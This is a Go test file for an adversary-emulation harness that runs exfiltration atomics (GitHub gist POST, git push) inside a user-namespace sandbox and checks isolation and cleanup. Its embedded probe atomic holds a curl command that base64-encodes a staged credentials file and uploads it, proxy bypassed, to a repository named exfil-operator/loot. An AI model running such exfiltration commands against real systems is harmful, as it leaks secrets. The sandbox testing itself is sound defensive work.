package main

import (
	"bufio"
	"encoding/json"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/t1567001/harness/internal/reftest"
)

// nobody is the ordinary user these tests run the harness as.
const nobody = 65534

// forNobody copies this test binary (the harness CLI under asHarness) into
// a folder nobody can read, and makes in it a TMPDIR, a HOME and an out
// folder nobody can write. It returns the binary and the folder.
func forNobody(t *testing.T) (bin, dir string) {
	t.Helper()
	if os.Geteuid() != 0 {
		t.Skip("needs root to run the harness as another user (uid 65534)")
	}
	// Not t.TempDir: its parent is root's alone, and nobody must reach it.
	dir, err := os.MkdirTemp("", "t1567-userns-test-")
	require.NoError(t, err)
	t.Cleanup(func() { os.RemoveAll(dir) })
	require.NoError(t, os.Chmod(dir, 0o755))
	exe, err := os.Executable()
	require.NoError(t, err)
	bin = filepath.Join(dir, "harness")
	require.NoError(t, copyFile(exe, bin, 0o755))
	for _, sub := range []string{"tmp", "home", "out", "atomics"} {
		require.NoError(t, os.Mkdir(filepath.Join(dir, sub), 0o755))
		require.NoError(t, os.Chown(filepath.Join(dir, sub), nobody, nobody))
	}
	return bin, dir
}

func copyFile(src, dst string, mode os.FileMode) error {
	in, err := os.Open(src)
	if err != nil {
		return err
	}
	defer in.Close()
	out, err := os.OpenFile(dst, os.O_CREATE|os.O_WRONLY|os.O_TRUNC, mode)
	if err != nil {
		return err
	}
	if _, err := io.Copy(out, in); err != nil {
		out.Close()
		return err
	}
	return out.Close()
}

// probeAtomic uploads its file with a client told to use no proxy,
// shows on stderr what the sandbox looks like from inside, tries what
// must fail closed, and leaves a child that left its session behind.
const probeAtomic = `attack_technique: T0000
display_name: user namespace probe
atomic_tests:
- name: probe
  description: what the sandbox looks like from inside
  supported_platforms: [linux]
  staged_files: [stolen_creds.txt]
  executor:
    name: sh
    command: |
      printf '{"message":"m","content":"%s"}' "$(base64 -w0 stolen_creds.txt)" > body.json
      curl -sS --fail --noproxy '*' -X PUT -H 'Authorization: token ghp_fake' --data-binary @body.json \
        https://api.github.com/repos/exfil-operator/loot/contents/probe.txt >/dev/null
      echo "hostname=$(hostname)" >&2
      echo "uid_map=$(cat /proc/self/uid_map)" >&2
      curl -sS --max-time 5 https://unserved-name.example.net/
      echo "name=$?" >&2
      python3 -c 'import socket; s = socket.socket(); s.settimeout(5); s.connect(("1.1.1.1", 443))' 2>/dev/null
      echo "address=$?" >&2
      setsid sleep 300 &
`

// TestRunAsAnOrdinaryUser: as uid 65534 `harness run` makes its sandbox in
// a user namespace of its own. The seed's curl gist POST and git push,
// and a curl that uses no proxy, deliver their files intact to the mock,
// the host name is the profile's,
// a name nothing serves is NXDOMAIN and recorded, a connection to an
// address nothing serves fails at once and is recorded, and nothing of
// the run is left: no folder, process or mount.
func TestRunAsAnOrdinaryUser(t *testing.T) {
	bin, dir := forNobody(t)
	for _, tool := range []string{"curl", "git", "python3"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("needs %s for the atomics: %v", tool, err)
		}
	}
	atomics := filepath.Join(dir, "atomics")
	require.NoError(t, copyFile(filepath.Join(reftest.ModuleRoot(t), "atomics", "T1567.001.yaml"), filepath.Join(atomics, "T1567.001.yaml"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(atomics, "probe.yaml"), []byte(probeAtomic), 0o644))
	const gist, push = "Exfiltrate Data via GitHub Gist API Using curl", "Git Push Sensitive Files to External Repository from Command Shell"
	tmp, out := filepath.Join(dir, "tmp"), filepath.Join(dir, "out")

	cmd := exec.Command(bin, "run", "--atomics", atomics, "--test", gist, "--test", push, "--test", "probe", "--out", out)
	cmd.Env = append(os.Environ(), asHarness+"=1", "TMPDIR="+tmp, "HOME="+filepath.Join(dir, "home"))
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: nobody, Gid: nobody}}
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	require.NoError(t, cmd.Run(), "stderr:\n%s\nstdout:\n%s", stderr.String(), stdout.String())

	var results struct {
		Sandbox string `json:"sandbox"`
		Atomics []struct {
			Name   string `json:"name"`
			Stderr string `json:"stderr"`
			Intact bool   `json:"intact"`
			Staged []struct {
				Name    string `json:"name"`
				SHA256  string `json:"sha256"`
				Arrived bool   `json:"arrived"`
			} `json:"staged"`
			Steps []struct {
				Kind, Text string
			} `json:"steps"`
		} `json:"atomics"`
	}
	readJSON(t, filepath.Join(out, "results.json"), &results)
	var ledger struct {
		Entries []struct {
			Kind, Method, Path, Atomic string
			Files                      []struct{ Name, SHA256 string }
			DNS                        *struct{ Name, Rcode string }
		} `json:"entries"`
	}
	readJSON(t, filepath.Join(out, "ledger.json"), &ledger)
	assert.Equal(t, "on", results.Sandbox)
	require.Len(t, results.Atomics, 3)

	for _, a := range results.Atomics {
		assert.True(t, a.Intact, a.Name)
		// Each staged file is in the ledger under its own hash, uploaded by
		// this atomic.
		uploaded := map[string]bool{}
		for _, e := range ledger.Entries {
			for _, f := range e.Files {
				if e.Atomic == a.Name {
					uploaded[f.SHA256] = true
				}
			}
		}
		require.NotEmpty(t, a.Staged, a.Name)
		for _, s := range a.Staged {
			assert.True(t, s.Arrived, "%s: %s", a.Name, s.Name)
			assert.True(t, uploaded[s.SHA256], "%s: %s (sha256 %s) is not in the ledger", a.Name, s.Name, s.SHA256)
		}
	}

	probe := results.Atomics[2]
	assert.Contains(t, probe.Stderr, "hostname=WS-FIN-0142\n")
	// Root inside is this user outside: the run was in a user namespace.
	assert.Regexp(t, `uid_map=\s*0\s+65534\s+1\n`, probe.Stderr)
	assert.Contains(t, probe.Stderr, "name=6\n", "curl could not resolve the name")
	assert.Contains(t, probe.Stderr, "address=1\n", "the connection failed")
	var direct []string
	for _, s := range probe.Steps {
		if s.Kind == "connect" && strings.Contains(s.Text, "1.1.1.1") {
			direct = append(direct, s.Text)
		}
	}
	require.Len(t, direct, 1, "the sensor recorded the connection")
	assert.Contains(t, direct[0], "to 1.1.1.1:443 (ENETUNREACH)")
	var nx []string
	for _, e := range ledger.Entries {
		if e.Kind == "dns" && e.Atomic == "probe" && e.DNS.Name == "unserved-name.example.net" {
			nx = append(nx, e.DNS.Rcode)
		}
	}
	assert.NotEmpty(t, nx, "the sinkhole recorded the query")
	for _, rcode := range nx {
		assert.Equal(t, "NXDOMAIN", rcode)
	}

	assert.Empty(t, leftovers(t, tmp))
	assert.Empty(t, processesOf(t, bin), "no harness process is left")
}

// processesOf lists the live processes started from bin.
func processesOf(t *testing.T, bin string) []string {
	t.Helper()
	var found []string
	exes, _ := filepath.Glob("/proc/[0-9]*/exe")
	for _, p := range exes {
		if target, err := os.Readlink(p); err == nil && target == bin {
			found = append(found, filepath.Dir(p))
		}
	}
	return found
}

func readJSON(t *testing.T, path string, v any) {
	t.Helper()
	data, err := os.ReadFile(path)
	require.NoError(t, err)
	require.NoError(t, json.Unmarshal(data, v), path)
}

// TestNoUserNamespaceRefusesInOneLine: where an ordinary user can make no
// user namespace (here: user.max_user_namespaces is 0 in a user namespace
// of the test's own, where uid 65534 runs the harness), local mode
// refuses to run atomics, says why in one line and exits 2.
func TestNoUserNamespaceRefusesInOneLine(t *testing.T) {
	bin, dir := forNobody(t)
	setpriv, err := exec.LookPath("setpriv")
	if err != nil {
		t.Skipf("needs setpriv (util-linux) to become uid 65534 inside the namespace: %v", err)
	}
	cmd := exec.Command("sh", "-c", `echo 0 > /proc/sys/user/max_user_namespaces && exec "$@"`,
		"sh", setpriv, "--reuid=65534", "--regid=65534", "--clear-groups", "--inh-caps=-all", bin, "run")
	cmd.Env = append(os.Environ(), asHarness+"=1", "TMPDIR="+filepath.Join(dir, "tmp"))
	// Root may map every id it has; the limit set inside binds every user
	// namespace made under this one.
	ids := []syscall.SysProcIDMap{{ContainerID: 0, HostID: 0, Size: nobody + 1}}
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWUSER, UidMappings: ids, GidMappings: ids, GidMappingsEnableSetgroups: true}
	var stdout, stderr strings.Builder
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	err = cmd.Run()
	var exitErr *exec.ExitError
	require.True(t, errors.As(err, &exitErr), "want an exit status, got %v; stderr: %s", err, stderr.String())
	assert.Equal(t, 2, exitErr.ExitCode(), stderr.String())
	lines := strings.Split(strings.TrimSpace(stderr.String()), "\n")
	require.Len(t, lines, 1, "one line: %s", stderr.String())
	assert.Contains(t, lines[0], "harness: no network sandbox: as uid 65534")
	assert.Contains(t, lines[0], "user.max_user_namespaces is 0")
	assert.Contains(t, lines[0], "--no-sandbox")
	assert.Empty(t, stdout.String(), "nothing ran")
	assert.Empty(t, leftovers(t, filepath.Join(dir, "tmp")))
}

// TestOrdinaryUserRunStopsCleanly: the harness an ordinary user started
// again in a user namespace stops and cleans up when the one outside is
// told to stop (SIGTERM) and when it is killed (SIGKILL, which no process
// can clean up after; the one inside gets SIGTERM then): well before
// the atomic would end, nothing of the run is left, not even the child
// the atomic left.
func TestOrdinaryUserRunStopsCleanly(t *testing.T) {
	bin, dir := forNobody(t)
	atomics := filepath.Join(dir, "atomics", "T0000.yaml")
	slower := strings.Replace(slowAtomic, "sleep 3\n", "sleep 120\n", 1)
	require.NotEqual(t, slowAtomic, slower)
	require.NoError(t, os.WriteFile(atomics, []byte(slower), 0o644))
	for _, sig := range []syscall.Signal{syscall.SIGTERM, syscall.SIGKILL} {
		t.Run(sig.String(), func(t *testing.T) {
			tmp := filepath.Join(dir, "tmp")
			cmd := exec.Command(bin, "run", "--atomics", atomics)
			cmd.Env = append(os.Environ(), asHarness+"=1", "TMPDIR="+tmp, "HOME="+filepath.Join(dir, "home"))
			cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: nobody, Gid: nobody}}
			stderr, err := cmd.StderrPipe()
			require.NoError(t, err)
			require.NoError(t, cmd.Start())
			line, err := bufio.NewReader(stderr).ReadString('\n')
			require.NoError(t, err)
			require.Contains(t, line, " ...", "the atomic started")
			require.NotEmpty(t, leftovers(t, tmp), "the run is under way")
			require.NoError(t, cmd.Process.Signal(sig))
			go io.Copy(io.Discard, stderr)
			_ = cmd.Wait()
			require.Eventually(t, func() bool { return len(leftovers(t, tmp)) == 0 && len(processesOf(t, bin)) == 0 },
				30*time.Second, 50*time.Millisecond, "left: %v %v", leftovers(t, tmp), processesOf(t, bin))
		})
	}
}
